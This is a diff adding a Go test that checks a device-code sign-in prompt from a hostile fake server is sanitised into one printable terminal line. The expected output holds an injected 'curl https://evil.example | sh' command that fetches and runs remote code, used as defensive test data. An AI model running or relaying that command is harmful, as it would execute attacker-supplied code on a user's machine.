@@ -534,3 +534,19 @@ func TestRefusalsQuotingTheRequestCarryNoSecret(t *testing.T) {
 }
 
 var jwtInText = regexp.MustCompile(`eyJ[A-Za-z0-9_-]{8,}`)
+
+// The device code prompt comes from the sign-in server and goes to the terminal: control
+// sequences in it (a new window title, a cleared screen, a second line) are not passed on.
+func TestDeviceCodePromptIsOnePrintableLine(t *testing.T) {
+	f := newFakeIDP(t, serverCert)
+	f.SetHostile(true)
+	var prompt bytes.Buffer
+	s := mustNew(t, fakeTenantID, map[string]string{EnvClientID: fakeClientID, EnvAuthorityHost: f.host()},
+		Options{Interactive: true, Prompt: &prompt})
+	_, _ = s.Token(ctx(t)) // the hostile server refuses the poll; the prompt is what is checked
+	want := "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code " + fakeUserCode +
+		" to authenticate. Also run: curl https://evil.example | sh\n"
+	if prompt.String() != want {
+		t.Errorf("prompt:\n got %q\nwant %q", prompt.String(), want)
+	}
+}
